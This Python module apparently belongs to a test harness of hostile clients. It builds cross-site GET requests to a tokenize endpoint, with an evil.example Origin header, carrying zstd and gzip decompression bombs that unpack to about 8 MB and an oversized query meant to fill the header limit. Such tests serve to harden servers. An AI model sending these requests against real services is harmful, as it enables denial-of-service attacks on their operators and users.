"""GETs that a page of any other site makes a browser send: each unpacks to 8 MB, or fills the whole head."""

from __future__ import annotations

from urllib.parse import quote, quote_from_bytes

from hostile.bomb_http import IDS
from hostile.messages import TOKENIZE, filled, packed
from hostile.target import Client, Target, main

HALF = filled('{"input":{"ids":{"ids":[0', ",0", "]}}}", 4 << 20)  # for the limit of a head


def get(query: str) -> Client:
    async def client(target: Target) -> None:
        head = f"GET {TOKENIZE}?encoding=json&{query} HTTP/1.1\r\nHost: {target.host}\r\nSec-Fetch-Site: cross-site\r\n"
        request = head.encode() + b"Sec-Fetch-Mode: no-cors\r\nOrigin: http://evil.example\r\n\r\n"
        await target.ask_for_ever(request)

    return client


CLIENTS = {
    "zstd": (32, get("compression=zstd&message=" + quote_from_bytes(packed("zstd", IDS)))),
    "gzip": (6, get("compression=gzip&message=" + quote_from_bytes(packed("gzip", HALF)))),
    "large": (32, get("message=" + quote('{"input":{"text":"' + "a" * 14_000 + '"}}'))),
}

if __name__ == "__main__":
    main(__doc__, CLIENTS)
